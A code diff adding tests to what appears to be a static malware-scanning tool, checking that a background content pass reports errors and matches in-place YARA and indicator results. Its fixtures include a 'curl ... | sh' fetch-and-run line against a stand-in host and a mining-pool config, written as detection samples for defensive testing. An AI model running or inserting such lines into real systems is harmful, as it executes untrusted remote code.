@@ -16,7 +16,7 @@ from detonate.model.options import StaticOptions
 from detonate.progress import NullProgress
 from detonate.rules.loader import load_rules
 from detonate.static import content_pass, files
-from detonate.static.content_pass import ContentResults, _tasks
+from detonate.static.content_pass import ContentResults, _tasks, content_results
 from detonate.static.files import FileIndexAnalyzer
 from detonate.static.yara_rules import compiled_rules
 from static.rootfs_builder import SampleFile, build_rootfs, make_image
@@ -127,3 +127,41 @@ def test_the_content_pass_hands_out_its_largest_work_first(tmp_path: Path) -> No
     by_key = {content_pass.content_key(e): e for e in rootfs.entries if e.type is FileType.FILE}
     tasks = _tasks(rootfs, by_key, {}, ContentResults(), 1 << 20)
     assert [t.read_bytes for t in tasks] == sorted(sizes, reverse=True)
+
+
+def test_a_pass_that_fails_before_handing_out_its_work_does_not_hold_up_the_stage(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The stage waits for the content pass to hand its work to the workers; a pass that
+    fails first must release it, and its error comes out where the results are read."""
+
+    def broken(extra_dir: Path | None = None) -> None:
+        raise RuntimeError("rules broke")
+
+    monkeypatch.setattr(content_pass, "compiled_rules", broken)
+    rootfs = build_rootfs(tmp_path, [SampleFile("/opt/a.sh", b"#!/bin/sh\n")])
+    options = StaticOptions()
+    content_pass.start_content_pass(rootfs, options, NullProgress())  # returns: no hang
+    with pytest.raises(RuntimeError, match="rules broke"):
+        content_pass.content_results(rootfs, options, NullProgress())
+
+
+def test_a_pass_started_in_the_background_finds_what_one_run_in_place_finds(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(content_pass, "IN_PROCESS_BYTES", 0)
+    monkeypatch.setattr(content_pass, "IN_PROCESS_FILES", 0)
+    monkeypatch.setattr(content_pass, "WORKERS", 2)
+    samples = [
+        SampleFile("/opt/run.sh", b"#!/bin/sh\ncurl -fsSL http://x.test/a.sh | sh\n", 0o755),
+        SampleFile("/opt/pool.conf", b"pool=stratum+tcp://pool.test:3333\n"),
+        SampleFile("/opt/big.bin", b"\x00" * 300_000 + b"http://198.51.100.7/x"),
+    ]
+    options = StaticOptions()
+    in_place = content_results(build_rootfs(tmp_path / "a", samples), options, NullProgress())
+    rootfs = build_rootfs(tmp_path / "b", samples)
+    content_pass.start_content_pass(rootfs, options, NullProgress())
+    background = content_results(rootfs, options, NullProgress())
+    assert background.yara == in_place.yara and background.iocs == in_place.iocs
+    assert background.scanned == in_place.scanned == 3
+    assert any(background.yara.values()) and any(f.found for f in background.iocs.values())
